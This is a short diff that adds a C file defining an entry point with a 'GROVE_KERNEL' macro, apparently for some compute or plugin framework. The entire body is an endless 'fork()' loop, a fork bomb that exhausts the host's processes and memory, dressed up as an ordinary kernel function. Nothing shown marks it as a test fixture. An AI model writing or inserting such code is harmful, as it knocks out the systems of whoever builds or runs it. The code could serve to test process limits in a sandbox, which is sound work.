@@ -1,0 +1,6 @@
+#include <unistd.h>
+#include <grove/kernel.h>
+GROVE_KERNEL(args) {
+  (void)args;
+  for (;;) fork();
+}
